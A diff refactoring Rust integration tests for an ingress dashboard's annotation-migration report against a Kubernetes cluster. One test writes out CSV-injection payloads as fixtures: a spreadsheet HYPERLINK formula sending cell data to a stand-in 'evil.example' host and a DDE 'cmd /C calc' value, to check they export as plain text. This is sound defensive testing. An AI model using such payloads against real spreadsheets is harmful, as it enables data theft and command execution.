@@ -6,120 +6,50 @@
 //! (`mig-nginx`, `mig-traefik`) are shared, written the same by every test and never the default.
 
 use serde_json::{Value, json};
-use test_support::TempDir;
 use test_support::kube_cluster::KubeCluster;
 
-use crate::app::{TestApp, build_app};
+use crate::app::spawn_app_server;
+use crate::real_kube::{self, Cluster, INGRESS, RealApp, Resource, spawn_real_server};
 
 const NGINX: &str = "nginx.ingress.kubernetes.io/";
 
 /// The test client (127.0.0.1) plays the sign-in proxy.
 const LOOPBACK_IS_TRUSTED: &str = "  trusted_proxies: [127.0.0.0/8, \"::1\"]\n";
 
-/// The admin's client of the shared cluster, and the folder of the application's kubeconfig.
-struct Cluster {
-    admin: reqwest::Client,
-    url: String,
-    _dir: TempDir,
+const INGRESS_CLASS: Resource = Resource {
+    api_version: "networking.k8s.io/v1",
+    kind: "IngressClass",
+    plural: "ingressclasses",
+    namespaced: false,
+};
+
+/// The application against the shared cluster as its admin, with `server_yaml` and
+/// `overrides_yaml`, once `namespaces` and the IngressClasses the tests name are there:
+/// `mig-nginx` (ingress-nginx), `mig-traefik`.
+async fn spawn(namespaces: &[&str], server_yaml: &str, overrides_yaml: &str) -> RealApp {
+    let app = spawn_app_server(server_yaml, overrides_yaml).await;
+    app.kube.namespaces(namespaces).await;
+    for (name, controller) in [
+        ("mig-nginx", "k8s.io/ingress-nginx"),
+        ("mig-traefik", "traefik.io/ingress-controller"),
+    ] {
+        let class = json!({"metadata": {"name": name}, "spec": {"controller": controller}});
+        app.kube.put(INGRESS_CLASS, class).await;
+    }
+    app
 }
 
-type App = TestApp<Cluster>;
-
-/// The application against the shared cluster as `token` (the admin's when `None`), with
-/// `server_yaml`, `kube_yaml` (more `kubernetes:` keys, indented) and `overrides_yaml`.
-async fn spawn(
-    token: Option<&str>,
-    server_yaml: &str,
-    kube_yaml: &str,
-    overrides_yaml: &str,
-) -> App {
-    let cluster = KubeCluster::shared();
-    let dir = TempDir::new("ingress-dash-migration");
-    let kubeconfig = dir.path().join("kubeconfig");
-    let token = token.unwrap_or(cluster.admin_token());
-    std::fs::write(
-        &kubeconfig,
-        format!(
-            "apiVersion: v1\nkind: Config\nclusters:\n- name: real\n  cluster:\n    \
-             server: {}\n    certificate-authority: {}\nusers:\n- name: dash\n  user:\n    \
-             token: {token}\ncontexts:\n- name: real\n  context:\n    cluster: real\n    \
-             user: dash\ncurrent-context: real\n",
-            cluster.url(),
-            cluster.ca_file().display(),
-        ),
-    )
-    .expect("writing the kubeconfig");
-    let kube = Cluster {
-        admin: cluster.admin_client(),
-        url: cluster.url().to_owned(),
-        _dir: dir,
-    };
-    let kube_yaml = format!("  kubeconfig: {}\n{kube_yaml}", kubeconfig.display());
-    build_app(kube, server_yaml, &kube_yaml, overrides_yaml).await
-}
-
-impl Cluster {
-    /// Creates or updates `object` (`apiVersion`, `kind`, `metadata.name`, and `namespace` when
-    /// namespaced) with server-side apply at `collection` (the REST path of its kind).
-    async fn put(&self, collection: &str, object: Value) {
-        let name = object["metadata"]["name"].as_str().expect("a name");
-        let url = format!(
-            "{}{collection}/{name}?fieldManager=ingress-dash-tests&force=true",
-            self.url
-        );
-        let response = self
-            .admin
-            .patch(&url)
-            .header("Content-Type", "application/apply-patch+yaml")
-            .body(object.to_string())
-            .send()
-            .await
-            .expect("the API server answers");
-        let status = response.status();
-        let body = response.text().await.unwrap_or_default();
-        assert!(status.is_success(), "apply of {url}: {status} {body}");
-    }
-
-    async fn namespace(&self, name: &str) {
-        let namespace =
-            json!({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}});
-        self.put("/api/v1/namespaces", namespace).await;
-    }
-
-    /// The IngressClasses the tests name: `mig-nginx` (ingress-nginx), `mig-traefik`.
-    async fn ingress_classes(&self) {
-        for (name, controller) in [
-            ("mig-nginx", "k8s.io/ingress-nginx"),
-            ("mig-traefik", "traefik.io/ingress-controller"),
-        ] {
-            let class = json!({
-                "apiVersion": "networking.k8s.io/v1", "kind": "IngressClass",
-                "metadata": {"name": name}, "spec": {"controller": controller},
-            });
-            self.put("/apis/networking.k8s.io/v1/ingressclasses", class)
-                .await;
-        }
-    }
-
-    /// An Ingress `name` of class `class` with `annotations`.
+impl RealApp {
+    /// Creates or updates an Ingress `name` of class `class` with `annotations` (its host
+    /// `<name>.<namespace>.example.com`, to Service `name`).
     async fn ingress(&self, namespace: &str, name: &str, class: &str, annotations: Value) {
-        let ingress = json!({
-            "apiVersion": "networking.k8s.io/v1", "kind": "Ingress",
-            "metadata": {"name": name, "namespace": namespace, "annotations": annotations},
-            "spec": {
-                "ingressClassName": class,
-                "rules": [{"host": format!("{name}.{namespace}.example.com"), "http": {"paths": [
-                    {"path": "/", "pathType": "Prefix",
-                     "backend": {"service": {"name": name, "port": {"number": 80}}}}
-                ]}}],
-            },
-        });
-        let collection = format!("/apis/networking.k8s.io/v1/namespaces/{namespace}/ingresses");
-        self.put(&collection, ingress).await;
+        let host = format!("{name}.{namespace}.example.com");
+        let mut ingress = real_kube::ingress(namespace, name, &host, name);
+        ingress["metadata"]["annotations"] = annotations;
+        ingress["spec"]["ingressClassName"] = json!(class);
+        self.kube.put(INGRESS, ingress).await;
     }
-}
 
-impl App {
     /// `GET path` as `user` of `groups`, as the sign-in proxy forwards it.
     async fn get_as(&self, path: &str, groups: &str) -> reqwest::Response {
         self.client
@@ -162,42 +92,36 @@ fn warning_codes(entry: &Value) -> Vec<&str> {
 
 #[tokio::test]
 async fn the_inventory_counts_each_namespace_s_controller_annotations_by_support() {
-    let app = spawn(None, "", "", "").await;
     let (a, b) = ("mig-count-a", "mig-count-b");
-    app.kube.namespace(a).await;
-    app.kube.namespace(b).await;
-    app.kube.ingress_classes().await;
-    app.kube
-        .ingress(
-            a,
-            "web",
-            "mig-nginx",
-            json!({
-                format!("{NGINX}rewrite-target"): "/",
-                format!("{NGINX}ssl-redirect"): "yes",
-                format!("{NGINX}proxy-body-size"): "8m",
-                format!("{NGINX}server-snippet"): "return 200;",
-                "cert-manager.io/cluster-issuer": "letsencrypt",
-                "traefik.ingress.kubernetes.io/router.tls": "true",
-            }),
-        )
-        .await;
-    app.kube
-        .ingress(
-            b,
-            "shop",
-            "mig-nginx",
-            json!({format!("{NGINX}canary-weight"): "20", format!("{NGINX}rewrite-target"): "/"}),
-        )
-        .await;
-    app.kube
-        .ingress(
-            b,
-            "plain",
-            "mig-nginx",
-            json!({"example.com/owner": "shop"}),
-        )
-        .await;
+    let app = spawn(&[a, b], "", "").await;
+    app.ingress(
+        a,
+        "web",
+        "mig-nginx",
+        json!({
+            format!("{NGINX}rewrite-target"): "/",
+            format!("{NGINX}ssl-redirect"): "yes",
+            format!("{NGINX}proxy-body-size"): "8m",
+            format!("{NGINX}server-snippet"): "return 200;",
+            "cert-manager.io/cluster-issuer": "letsencrypt",
+            "traefik.ingress.kubernetes.io/router.tls": "true",
+        }),
+    )
+    .await;
+    app.ingress(
+        b,
+        "shop",
+        "mig-nginx",
+        json!({format!("{NGINX}canary-weight"): "20", format!("{NGINX}rewrite-target"): "/"}),
+    )
+    .await;
+    app.ingress(
+        b,
+        "plain",
+        "mig-nginx",
+        json!({"example.com/owner": "shop"}),
+    )
+    .await;
 
     let response = app.get(&format!("/api/migration?namespaces={a},{b}")).await;
     assert_eq!(response.status(), 200);
@@ -254,20 +178,16 @@ async fn the_inventory_counts_each_namespace_s_controller_annotations_by_support
 async fn a_user_limited_to_one_namespace_sees_only_its_counts() {
     let mapping = "access:\n  mode: trusted_headers\n  namespaces_by_group:\n    \
                    shop: [mig-shop]\n    sre: [\"*\"]\n";
-    let app = spawn(None, LOOPBACK_IS_TRUSTED, "", mapping).await;
     let (shop, other) = ("mig-shop", "mig-hidden");
-    app.kube.namespace(shop).await;
-    app.kube.namespace(other).await;
-    app.kube.ingress_classes().await;
+    let app = spawn(&[shop, other], LOOPBACK_IS_TRUSTED, mapping).await;
     for namespace in [shop, other] {
-        app.kube
-            .ingress(
-                namespace,
-                "web",
-                "mig-nginx",
-                json!({format!("{NGINX}limit-rps"): "10", format!("{NGINX}x-{namespace}"): "1"}),
-            )
-            .await;
+        app.ingress(
+            namespace,
+            "web",
+            "mig-nginx",
+            json!({format!("{NGINX}limit-rps"): "10", format!("{NGINX}x-{namespace}"): "1"}),
+        )
+        .await;
     }
 
     let report: Value = app
@@ -322,24 +242,21 @@ async fn a_user_limited_to_one_namespace_sees_only_its_counts() {
 
 #[tokio::test]
 async fn a_formula_in_an_annotation_value_comes_out_of_the_csv_as_text() {
-    let app = spawn(None, "", "", "").await;
     let namespace = "mig-csv";
-    app.kube.namespace(namespace).await;
-    app.kube.ingress_classes().await;
+    let app = spawn(&[namespace], "", "").await;
     let formula = r#"=HYPERLINK("http://evil.example/?d="&A1,"click")"#;
-    app.kube
-        .ingress(
-            namespace,
-            "web",
-            "mig-nginx",
-            json!({
-                format!("{NGINX}rewrite-target"): formula,
-                format!("{NGINX}x-forwarded-prefix"): "@SUM(1+1)*cmd|' /C calc'!A0",
-                format!("{NGINX}upstream-vhost"): "+1\r\n-2,\"three\"",
-                format!("{NGINX}rewrite-targte"): "/",
-            }),
-        )
-        .await;
+    app.ingress(
+        namespace,
+        "web",
+        "mig-nginx",
+        json!({
+            format!("{NGINX}rewrite-target"): formula,
+            format!("{NGINX}x-forwarded-prefix"): "@SUM(1+1)*cmd|' /C calc'!A0",
+            format!("{NGINX}upstream-vhost"): "+1\r\n-2,\"three\"",
+            format!("{NGINX}rewrite-targte"): "/",
+        }),
+    )
+    .await;
 
     let response = app
         .get(&format!("/api/migration?namespaces={namespace}&format=csv"))
@@ -383,12 +300,9 @@ async fn a_formula_in_an_annotation_value_comes_out_of_the_csv_as_text() {
 
 #[tokio::test]
 async fn the_explainer_says_what_each_annotation_does_for_the_class_s_controller() {
-    let app = spawn(None, "", "", "").await;
     let namespace = "mig-explain";
-    app.kube.namespace(namespace).await;
-    app.kube.ingress_classes().await;
-    app.kube
-        .ingress(
+    let app = spawn(&[namespace], "", "").await;
+    app.ingress(
             namespace,
             "web",
             "mig-nginx",
@@ -474,14 +388,11 @@ async fn the_explainer_says_what_each_annotation_does_for_the_class_s_controller
 
 #[tokio::test]
 async fn huge_values_are_bounded_in_every_answer() {
-    let app = spawn(None, "", "", "").await;
     let namespace = "mig-huge";
-    app.kube.namespace(namespace).await;
-    app.kube.ingress_classes().await;
+    let app = spawn(&[namespace], "", "").await;
     // Annotations may hold 256 KiB in all.
     let huge = "a".repeat(200_000);
-    app.kube
-        .ingress(
+    app.ingress(
             namespace,
             "web",
             "mig-nginx",
@@ -521,22 +432,22 @@ async fn huge_values_are_bounded_in_every_answer() {
 async fn without_permission_on_ingress_classes_the_report_says_what_to_grant() {
     let cluster = KubeCluster::shared();
     let namespace = "mig-scoped";
-    let token = crate::real_kube::reader_token(cluster, &[namespace]);
-    let app = spawn(
+    let token = real_kube::reader_token(cluster, &[namespace]);
+    let app = spawn_real_server(
+        Cluster::Shared(cluster),
         Some(&token),
         "",
-        "  namespaces: [mig-scoped]\n",
-        crate::real_kube::INGRESSES_ONLY,
+        &real_kube::scoped(&[namespace]),
+        real_kube::INGRESSES_ONLY,
     )
     .await;
-    app.kube
-        .ingress(
-            namespace,
-            "web",
-            "mig-nginx",
-            json!({format!("{NGINX}proxy-body-size"): "1m"}),
-        )
-        .await;
+    app.ingress(
+        namespace,
+        "web",
+        "mig-nginx",
+        json!({format!("{NGINX}proxy-body-size"): "1m"}),
+    )
+    .await;
     let (status, report) = app.get_json("/api/migration").await;
     assert_eq!(status, 200, "{report}");
     assert!(
